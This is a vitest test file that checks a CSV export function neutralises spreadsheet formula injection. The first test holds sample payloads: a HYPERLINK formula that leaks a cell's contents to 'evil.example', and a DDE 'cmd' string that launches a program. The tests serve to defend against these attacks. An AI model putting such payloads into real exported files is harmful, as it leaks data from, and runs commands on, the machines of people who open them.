import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { toCsv } from "./csv";

const roundTrip = (cells: (string | number)[]) => (parse(toCsv(["a"], cells.map((c) => [c]), { bom: false })) as string[][]).slice(1).map((r) => r[0]);

describe("toCsv and formula injection (OWASP CSV injection)", () => {
  it("prefixes a cell that a spreadsheet would run as a formula with an apostrophe", () => {
    const attacks = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1", "=1"];
    expect(roundTrip(attacks)).toEqual(attacks.map((a) => `'${a}`));
  });

  it("leaves plain numbers and ordinary text as they are", () => {
    expect(roundTrip([-12.5, 2015, "-12.5", "2015", "0.5", "Temple of Bel", "معبد بل", "a=b", "2016-03-27"])).toEqual([
      "-12.5", "2015", "-12.5", "2015", "0.5", "Temple of Bel", "معبد بل", "a=b", "2016-03-27",
    ]);
  });
});
